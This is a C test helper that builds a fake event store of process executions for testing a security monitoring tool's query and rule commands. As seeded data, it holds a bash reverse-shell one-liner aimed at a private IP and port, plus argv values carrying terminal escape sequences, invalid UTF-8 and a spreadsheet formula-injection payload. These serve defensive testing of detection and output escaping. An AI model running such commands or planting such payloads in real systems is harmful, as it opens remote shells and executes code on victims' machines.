/* mkstore.c: a test helper (not a test): writes a small event store with
 * a known process tree and hostile bytes in argv and comm, for the CLI
 * integration tests (`query`, `rules test`).
 *   mkstore PATH
 * Prints the pids it stored, one "name pid" per line.
 */
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "store.h"

static int add(struct de_store *s, int type, int pid, int ppid, unsigned char tag,
	       unsigned char ptag, const char *comm, const char *argv, size_t argv_len)
{
	struct de_event ev;
	struct timespec t;
	clock_gettime(CLOCK_REALTIME, &t);
	memset(&ev, 0, sizeof(ev));
	ev.type = type;
	ev.source = DE_EVSRC_EBPF;
	ev.time_ns = (int64_t)t.tv_sec * 1000000000LL + t.tv_nsec;
	ev.pid = ev.tid = pid;
	ev.ppid = ppid;
	memset(ev.entity_id, tag, DE_ENTITY_ID_LEN);
	memset(ev.parent_entity_id, ptag, DE_ENTITY_ID_LEN);
	snprintf(ev.comm, sizeof(ev.comm), "%s", comm);
	ev.have = DE_EVF_PARENT | DE_EVF_CREDS;
	if (argv) {
		ev.argv = argv;
		ev.argv_len = argv_len;
		for (size_t i = 0; i < argv_len; i++)
			ev.argc += argv[i] == 0;
		ev.filename = "/usr/bin/x";
		ev.have |= DE_EVF_ARGV | DE_EVF_FILENAME;
	}
	return de_store_add(s, &ev) > 0 ? 0 : -1;
}

#define A(lit) lit, sizeof(lit)

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: mkstore PATH\n");
		return 2;
	}
	struct de_store_opts o = { .path = argv[1] };
	char why[256];
	struct de_store *s = de_store_open(&o, why, sizeof(why));
	if (!s) {
		fprintf(stderr, "mkstore: %s\n", why);
		return 1;
	}
	int rc = 0;
	rc |= add(s, DE_EV_EXEC, 4001, 1, 0x41, 0x01, "sshd", A("sshd\0-D"));
	rc |= add(s, DE_EV_EXEC, 4002, 4001, 0x42, 0x41, "bash",
		  A("bash\0-c\0bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"));
	/* Hostile: newline, escape sequence, invalid UTF-8, quotes, commas, a
	 * spreadsheet formula, a tab, a NUL-separated argument. */
	rc |= add(s, DE_EV_EXEC, 4003, 4002, 0x43, 0x42, "evil\n\x1b[31m",
		  A("/tmp/x\0line1\nline2\0\x1b]0;owned\x07\0\xff\xfe\xc3\0\"q\",a,b\0=cmd|' /C calc'!A0\0tab\there"));
	rc |= add(s, DE_EV_FORK, 4004, 4003, 0x44, 0x43, "evil", NULL, 0);
	rc |= add(s, DE_EV_EXIT, 4004, 4003, 0x44, 0x43, "evil", NULL, 0);
	if (rc || de_store_commit(s) < 0) {
		fprintf(stderr, "mkstore: %s\n", de_store_errmsg(s));
		de_store_close(s);
		return 1;
	}
	de_store_close(s);
	printf("sshd 4001\nbash 4002\nevil 4003\nchild 4004\n");
	return 0;
}
